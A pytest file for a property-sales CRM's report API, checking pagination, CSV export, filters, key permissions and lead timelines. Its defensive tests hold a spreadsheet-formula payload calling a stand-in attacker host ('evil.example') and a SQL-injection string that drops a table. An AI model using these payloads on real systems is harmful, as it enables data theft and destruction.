"""The report endpoints over HTTP: every report's rows are its screen's read's, page by page and as
CSV; filters by name; refusals by parameter; keys held to their role and tenant; one lead's timeline
and engagement figures; a lead posted by the API on the funnel at the next read."""

from __future__ import annotations

import base64
import concurrent.futures
import csv
import datetime as dt
import io
import json
import math
import secrets
from decimal import Decimal
from types import SimpleNamespace

import numpy as np
import pandas as pd
import pytest

from api.routes.reports import ledger_window
from data import reports
from data.db import Scope
from data.domain.filters import IST, ReportFilters, first_of_month, today_in_india
from data.domain.permissions import SYSTEM
from data.exports.csv_files import to_csv_bytes
from data.writes import activity, api_keys, catalog
from tests.support.api import client

REPORTS = "/v1/reports/"


def _reads(scope: Scope, filters: ReportFilters) -> dict[str, dict[str | None, pd.DataFrame]]:
    """Every report's tables as the data layer reads them for the filters, by endpoint and part
    (uncached: the database as it is now, whatever this process cached before)."""
    today = today_in_india()
    overview = reports.overview.uncached(scope, filters, today)
    funnel = reports.funnel.uncached(scope, filters)
    stock = reports.bookings_and_inventory.uncached(scope, filters, today)
    ledger = reports.ledger_summary.uncached(scope, filters)
    speed = reports.speed_to_lead.uncached(scope, filters)
    return {
        "overview": {"kpis": overview.kpis, "trend": overview.trend},
        "funnel": {"cohorts": funnel.cohorts, "stages": funnel.stages, "lags": funnel.lags},
        "speed-to-lead": {
            part: getattr(speed, part) for part in ("total", "by_rep", "by_source", "by_project", "by_week", "breaches")
        },
        "team-scorecard": {None: reports.scorecard.uncached(scope, filters)},
        "source-performance": {None: reports.source_performance.uncached(scope, filters)},
        "campaign-performance": {None: reports.campaign_performance.uncached(scope, filters, today)},
        "bookings": {"by_month": stock.by_month, "by_status": stock.by_status, "by_project": stock.by_project},
        "unit-inventory": {"inventory": stock.inventory, "absorption": stock.absorption},
        "customer-ledger": {"accounts": ledger.rows, "totals": pd.DataFrame([ledger.totals])},
    }


def _operations(api) -> dict[str, tuple[tuple[str | None, ...], set[str]]]:
    """Each report endpoint in the OpenAPI document: its parts (None without a part) and its parameters."""
    document = api.get("/openapi.json").json()
    operations = {}
    for path, item in document["paths"].items():
        if path.startswith(REPORTS):
            parameters = {parameter["name"]: parameter for parameter in item["get"]["parameters"]}
            parts = tuple(parameters["part"]["schema"]["enum"]) if "part" in parameters else (None,)
            operations[path.removeprefix(REPORTS)] = (parts, set(parameters))
    return operations


def _same(answered, read) -> bool:
    """Whether a JSON value is the read's value unchanged (money as its Decimal's string, moments ISO)."""
    if isinstance(read, np.generic):
        read = read.item()
    if read is None or read is pd.NaT or read is pd.NA or (isinstance(read, float) and math.isnan(read)):
        return answered is None
    if isinstance(read, Decimal):
        return isinstance(answered, str) and Decimal(answered) == read and answered == str(read)
    if isinstance(read, dt.datetime):
        return (
            dt.datetime.fromisoformat(answered) == read and dt.datetime.fromisoformat(answered).utcoffset() is not None
        )
    if isinstance(read, dt.date):
        return answered == read.isoformat()
    if isinstance(read, bool | str):
        return answered == read
    return isinstance(answered, int | float) and not isinstance(answered, bool) and answered == read


# Figures that grow with the clock: the API answers a moment after the test's own read, and a
# working minute may pass between the two.
_CLOCK_MINUTES = {"working_minutes_waiting"}


def _assert_rows(answered: list[dict], frame: pd.DataFrame) -> None:
    assert len(answered) == len(frame)
    columns = [str(column) for column in frame.columns]
    for row, read in zip(answered, frame.itertuples(index=False), strict=True):
        assert list(row) == columns
        for column, value in zip(columns, read, strict=True):
            if column in _CLOCK_MINUTES:
                assert row[column] - value in (0, 1), (column, row[column], value)
            else:
                assert _same(row[column], value), (column, row[column], value)


def _walk(api, path: str, params: dict, limit: int = 2) -> list[dict]:
    """Every row of a report, a page of ``limit`` at a time, checking each page's as_of and cursor."""
    rows: list[dict] = []
    cursor = None
    while True:
        answer = api.get(path, params={**params, "limit": limit, **({"cursor": cursor} if cursor else {})})
        assert answer.status_code == 200, (path, answer.text)
        body = answer.json()
        assert dt.datetime.fromisoformat(body["as_of"]).utcoffset() is not None
        assert len(body["rows"]) <= limit
        rows += body["rows"]
        cursor = body["next_cursor"]
        if cursor is None:
            break
        assert len(body["rows"]) == limit and len(rows) < body["total_rows"]
    assert len(rows) == body["total_rows"]
    return rows


def _part(part: str | None) -> dict:
    return {} if part is None else {"part": part}


def test_every_report_pages_the_rows_its_screen_reads(api_url, api_world, keys) -> None:
    api = client(api_url, keys.reader)
    operations = _operations(api)
    expected = _reads(Scope(api_world.alpha), ReportFilters.last_months(12, today_in_india()))
    assert {name: parts for name, (parts, _) in operations.items()} == {
        name: tuple(tables) for name, tables in expected.items()
    }
    for name, tables in expected.items():
        for part, frame in tables.items():
            _assert_rows(_walk(api, REPORTS + name, _part(part)), frame)
            whole = api.get(REPORTS + name, params=_part(part)).json()  # the default limit takes these few rows
            assert whole["next_cursor"] is None
            _assert_rows(whole["rows"], frame)


def test_filters_by_name_select_what_the_screen_would(api_url, api_world, keys) -> None:
    api = client(api_url, keys.reader)
    ids = api_world.ids
    # Names as a person types them: capitals need not match.
    names = {
        "period_from": "2026-01",
        "period_to": "2026-02",
        "project": "alpha towers",
        "source": "online portal",
        "subsource": "99ACRES",
        "campaign": "Portal Jan",
        "owner": "ravi kumar",
    }
    filters = ReportFilters(
        month_from=dt.date(2026, 1, 1),
        month_to=dt.date(2026, 2, 1),
        project_id=ids["p1"],
        source="Online Portal",
        subsource="99acres",
        campaign_id=ids["c1"],
        owner_user_id=ids["rep"],
    )
    # Each report reads only the filters it applies, so one set of filters gives every report's figures.
    expected = _reads(Scope(api_world.alpha), filters)
    for name, (parts, parameters) in _operations(api).items():
        given = {key: value for key, value in names.items() if key in parameters}
        for part in parts:
            _assert_rows(_walk(api, REPORTS + name, {**given, **_part(part)}), expected[name][part])
    # Worked out from tests/support/world.py: of January's and February's leads, Portal Jan brought
    # Asha and Bala in January (Esha is retired; Dinesh came through Brand).
    cohorts = api.get(REPORTS + "funnel", params=names).json()["rows"]
    assert [(row["cohort_month"], row["leads"], row["booked"]) for row in cohorts] == [("2026-01-01", 2, 2)]


@pytest.mark.parametrize(
    ("path", "params", "field"),
    [
        ("funnel", {"project": "Nowhere Heights"}, "project"),
        ("funnel", {"source": "Newspaper"}, "source"),
        ("funnel", {"source": "Walk-in", "subsource": "99acres"}, "subsource"),
        ("funnel", {"subsource": "99acres"}, "subsource"),
        ("funnel", {"campaign": "Diwali"}, "campaign"),
        ("funnel", {"source": "Walk-in", "campaign": "Portal Jan"}, "campaign"),
        ("overview", {"owner": "Nobody"}, "owner"),
        ("overview", {"period_from": "2026-13"}, "period_from"),
        ("overview", {"period_to": "abc"}, "period_to"),
        ("overview", {"period_from": "2026-03", "period_to": "2026-01"}, "period_from"),
        ("overview", {"period_from": "{next_year}-01"}, "period_from"),  # after this month, where it ends
        ("overview", {"period_to": "0001-01"}, "period_to"),
        ("overview", {"period_to": "2026-1"}, "period_to"),
        ("campaign-performance", {"project": "Gamma Heights"}, "project"),  # beta's project
        ("source-performance", {"owner": "Ravi Kumar"}, "owner"),
        ("campaign-performance", {"owner": "Ravi Kumar"}, "owner"),
        ("bookings", {"source": "Walk-in"}, "source"),
        ("unit-inventory", {"period_from": "2026-01"}, "period_from"),
        ("customer-ledger", {"period_to": "2026-01"}, "period_to"),
    ],
)
def test_a_filter_that_names_nothing_is_refused_by_its_parameter(api_url, api_world, keys, path, params, field):
    params = {key: value.format(next_year=today_in_india().year + 1) for key, value in params.items()}
    answer = client(api_url, keys.reader).get(REPORTS + path, params=params)
    assert answer.status_code == 422, answer.text
    assert set(answer.json()["errors"]) == {field}, answer.text


def test_a_forged_cursor_is_refused(api_url, api_world, keys) -> None:
    api = client(api_url, keys.reader)
    forged = base64.urlsafe_b64encode(json.dumps({"offset": -5}).encode()).decode()
    for path in (REPORTS + "funnel", REPORTS + "customer-ledger", f"/v1/leads/{api_world.ids['l1']}/timeline"):
        for cursor in (forged, "not-a-cursor", "eyJvZmZzZXQiOiAiMSJ9"):
            answer = api.get(path, params={"cursor": cursor})
            assert answer.status_code == 422, answer.text
            assert set(answer.json()["errors"]) == {"cursor"}


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_csv_gives_the_same_rows(api_url, api_world, keys) -> None:
    api = client(api_url, keys.reader)
    expected = _reads(Scope(api_world.alpha), ReportFilters.last_months(12, today_in_india()))
    csv_accept = {"Accept": "text/csv"}
    for name, tables in expected.items():
        for part, frame in tables.items():
            answer = api.get(REPORTS + name, params={**_part(part), "limit": 1000}, headers=csv_accept)
            assert answer.status_code == 200, answer.text
            assert answer.headers["content-type"].startswith("text/csv")
            assert dt.datetime.fromisoformat(answer.headers["Leadline-As-Of"]).utcoffset() is not None
            assert answer.content == to_csv_bytes(frame), (name, part)
    # A page at a time: the header on each page, the next page's cursor in a header.
    whole = _csv_rows(api.get(REPORTS + "funnel", params={"part": "stages"}, headers=csv_accept).content)
    walked, cursor = [], None
    while True:
        params = {"part": "stages", "limit": 2, **({"cursor": cursor} if cursor else {})}
        answer = api.get(REPORTS + "funnel", params=params, headers=csv_accept)
        header, *rows = _csv_rows(answer.content)
        assert header == whole[0]
        walked += rows
        cursor = answer.headers.get("Leadline-Next-Cursor")
        if cursor is None:
            break
    assert walked == whole[1:]


def test_text_that_a_spreadsheet_would_run_comes_out_defused(api_url, api_world, keys) -> None:
    formula = '=HYPERLINK("http://evil.example/?leak=1","Open")'
    catalog.add_source(api_world.alpha, formula, "@portal", api_world.ids["boss"])
    phone = f"+91 9{secrets.randbelow(10**9):09d}"
    lead = {"name": "Formula Source Lead", "phone": phone, "source": formula, "subsource": "@portal"}
    posted = client(api_url, keys.intake).post("/v1/leads", json=lead)
    assert posted.status_code == 201, posted.text
    lead_id = posted.json()["lead_id"]
    activity.log_engagement(
        api_world.alpha,
        api_world.ids["mona"],
        lead_id=lead_id,
        engagement_type="call",
        direction="outbound",
        status="completed",
        channel="phone",
        occurred_at=dt.datetime.now(IST),
        notes="+91 said: =1+2 @ noon",
        idempotency_key=secrets.token_hex(8),
    )
    api = client(api_url, keys.reader)
    params = {"source": formula, "subsource": "@PORTAL"}
    json_rows = api.get(REPORTS + "source-performance", params=params).json()["rows"]
    assert [(row["source"], row["subsource"], row["leads"]) for row in json_rows] == [(formula, "@portal", 1)]
    header, *rows = _csv_rows(
        api.get(REPORTS + "source-performance", params=params, headers={"Accept": "text/csv"}).content
    )
    assert rows[0][:3] == ["'" + formula, "'@portal", "1"]
    header, *rows = _csv_rows(api.get(f"/v1/leads/{lead_id}/timeline", headers={"Accept": "text/csv"}).content)
    notes = [row[header.index("notes")] for row in rows if row[header.index("kind")] == "engagement"]
    assert notes == ["'+91 said: =1+2 @ noon"]


def test_keys_read_only_what_their_role_and_tenant_may(api_url, api_world, keys) -> None:
    lead = api_world.ids["l1"]
    paths = [REPORTS + name for name in _operations(client(api_url, keys.reader))]
    paths += [f"/v1/leads/{lead}/timeline", f"/v1/leads/{lead}/engagement-stats"]
    for path in paths:
        assert client(api_url, keys.intake).get(path).status_code == 403, path
        assert client(api_url, None).get(path).status_code == 401, path
        assert client(api_url, keys.manager).get(path).status_code == 200, path
    beta = client(api_url, keys.beta_manager)
    for path in paths[-2:]:
        assert beta.get(path).status_code == 404
    # Beta's key reads beta's figures, and alpha's names name nothing there.
    inventory = beta.get(REPORTS + "unit-inventory").json()["rows"]
    assert {row["project_name"] for row in inventory} == {"Gamma Heights"}
    assert beta.get(REPORTS + "funnel", params={"project": "Alpha Towers"}).status_code == 422


def test_the_timeline_is_the_leads_milestones_and_engagements_in_time_order(api_url, api_world, keys) -> None:
    lead_id = api_world.ids["l1"]
    timeline = reports.lead_timeline.uncached(Scope(api_world.alpha), lead_id)
    rows = _walk(client(api_url, keys.reader), f"/v1/leads/{lead_id}/timeline", {})
    for kind, frame in (("milestone", timeline.milestones), ("engagement", timeline.engagements)):
        _assert_rows([{column: row[column] for column in frame.columns} for row in rows if row["kind"] == kind], frame)
    moments = [dt.datetime.fromisoformat(row["occurred_at"]) for row in rows]
    assert moments == sorted(moments)
    # Asha's call at 15:00 on 5 January comes after the milestone of the same moment (contacted).
    same_moment = [
        (row["kind"], row["milestone_type"]) for row in rows if row["occurred_at"].startswith("2026-01-05T15")
    ]
    assert same_moment == [("milestone", "contacted"), ("engagement", None)]
    # A lead with milestones and no engagement yet: every column still there, the engagement's empty.
    posted = client(api_url, keys.intake).post(
        "/v1/leads",
        json={"name": "No Calls Yet", "phone": f"+91 9{secrets.randbelow(10**9):09d}", "source": "Walk-in"}
        | {"subsource": "Site office"},
    )
    quiet = client(api_url, keys.reader).get(f"/v1/leads/{posted.json()['lead_id']}/timeline")
    assert quiet.status_code == 200, quiet.text
    (row,) = quiet.json()["rows"]
    assert (row["kind"], row["milestone_type"], row["engagement_id"]) == ("milestone", "lead_generated", None)


def test_engagement_stats_count_the_leads_engagements(api_url, api_world, keys) -> None:
    api = client(api_url, keys.reader)
    generated = dt.datetime.now(IST) - dt.timedelta(days=5)
    lead = {"name": "Stats Lead", "phone": f"+91 9{secrets.randbelow(10**9):09d}", "source": "Walk-in"}
    posted = client(api_url, keys.intake).post(
        "/v1/leads", json={**lead, "subsource": "Site office", "generated_at": generated.isoformat()}
    )
    lead_id = posted.json()["lead_id"]
    empty = api.get(f"/v1/leads/{lead_id}/engagement-stats").json()
    assert (empty["engagements"], empty["first_contact_at"], empty["days_since_last_contact"]) == (0, None, None)

    def engagement(days_ago: int, engagement_type: str, direction: str, status: str) -> dt.datetime:
        moment = (generated + dt.timedelta(days=5 - days_ago)).replace(microsecond=0)
        activity.log_engagement(
            api_world.alpha,
            api_world.ids["mona"],
            lead_id=lead_id,
            engagement_type=engagement_type,
            direction=direction,
            status=status,
            channel=None,
            occurred_at=moment,
            idempotency_key=secrets.token_hex(8),
        )
        return moment

    engagement(4, "call", "outbound", "no_answer")
    answered = engagement(3, "call", "outbound", "completed")
    last = engagement(2, "whatsapp", "inbound", "completed")
    stats = api.get(f"/v1/leads/{lead_id}/engagement-stats").json()
    assert dt.datetime.fromisoformat(stats.pop("as_of")).utcoffset() is not None
    assert stats == {
        "lead_id": lead_id,
        "engagements": 3,
        "by_type": {"call": 2, "email": 0, "sms": 0, "whatsapp": 1, "meeting": 0, "site_visit": 0},
        "by_direction": {"outbound": 2, "inbound": 1},
        "by_status": {"completed": 2, "no_answer": 1, "scheduled": 0, "failed": 0},
        "milestone_outcomes": {"positive": 0, "neutral": 0, "negative": 0},
        "calls": 2,
        "calls_answered": 1,
        "first_contact_at": answered.isoformat(),
        "last_contact_at": last.isoformat(),
        "days_since_last_contact": (today_in_india() - last.date()).days,
    }
    # Chitra's site visit was recorded as positive; she has no engagements.
    chitra = api.get(f"/v1/leads/{api_world.ids['l3']}/engagement-stats").json()
    assert (chitra["milestone_outcomes"]["positive"], chitra["engagements"], chitra["calls"]) == (1, 0, 0)


def test_odd_input_is_never_a_server_error(api_url, api_world) -> None:
    made = api_keys.create_api_key(
        api_world.alpha, SYSTEM, name="Odd input", role="reader", rate_limit_per_minute=60000
    )
    odd = ["", "\x00", "a\x00b", "x" * 5000, "2026-00", "0000-01", "9999-12", "٢٠٢٦-٠١", str(10**30), "1e309"]
    odd += ["'; drop table leads; --"]
    huge_cursor = base64.urlsafe_b64encode(json.dumps({"offset": 10**30}).encode()).decode()
    requests = []
    for name, (parts, parameters) in _operations(client(api_url, made.key)).items():
        requests += [(REPORTS + name, {parameter: value}) for parameter in sorted(parameters) for value in odd]
        requests += [(REPORTS + name, {"cursor": huge_cursor, **_part(part)}) for part in parts]
    for lead in ("0", "-1", str(2**63 - 1), str(2**63), str(10**30), "abc"):
        requests += [(f"/v1/leads/{lead}/{tail}", {}) for tail in ("timeline", "engagement-stats")]

    def status(request) -> tuple:
        path, params = request
        answer = client(api_url, made.key).get(path, params=params)
        return path, params, answer.status_code, answer.text[:300]

    # As many at once as the API serves at once (api/limits.py), so the hundreds of calls take seconds.
    with concurrent.futures.ThreadPoolExecutor(6) as pool:
        answers = list(pool.map(status, requests))
    assert [answer for answer in answers if answer[2] not in (200, 404, 422)] == []


class _Ledger:
    """The ledger read's paging as ``ledger_summary`` does it: a page past the end gives the first."""

    def __init__(self, accounts: int, page_size: int) -> None:
        self.rows = pd.DataFrame({"booking_id": range(1, accounts + 1)})
        self.page_size = page_size
        self.read: list[int] = []

    def page(self, number: int):
        self.read.append(number)
        if (number - 1) * self.page_size >= len(self.rows):
            number = 1
        start = (number - 1) * self.page_size
        return SimpleNamespace(rows=self.rows.iloc[start : start + self.page_size], totals={"accounts": len(self.rows)})


@pytest.mark.parametrize("accounts", [0, 1, 7, 9])
def test_the_ledger_window_reads_only_the_pages_it_needs(accounts) -> None:
    for offset in range(accounts + 3):
        for limit in range(1, 8):
            ledger = _Ledger(accounts, page_size=3)
            rows, total = ledger_window(ledger.page, offset, limit, page_size=3)
            assert total == accounts
            assert rows["booking_id"].tolist() == list(range(1, accounts + 1))[offset : offset + limit]
            wanted = {1} | {position // 3 + 1 for position in range(offset, min(offset + limit, accounts))}
            assert set(ledger.read) == wanted, (offset, limit, ledger.read)


def test_a_lead_posted_by_the_api_is_on_the_funnel_at_the_next_read(api_url, api_world, keys) -> None:
    api = client(api_url, keys.reader)
    month = first_of_month(today_in_india()).isoformat()

    def leads_this_month() -> int:
        rows = api.get(REPORTS + "funnel", params={"limit": 1000}).json()["rows"]
        return next((row["leads"] for row in rows if row["cohort_month"] == month), 0)

    before = leads_this_month()
    lead = {"name": "Fresh Lead", "phone": f"+91 9{secrets.randbelow(10**9):09d}", "source": "Online Portal"}
    posted = client(api_url, keys.intake).post("/v1/leads", json={**lead, "subsource": "99acres"})
    assert posted.status_code == 201, posted.text
    assert leads_this_month() == before + 1
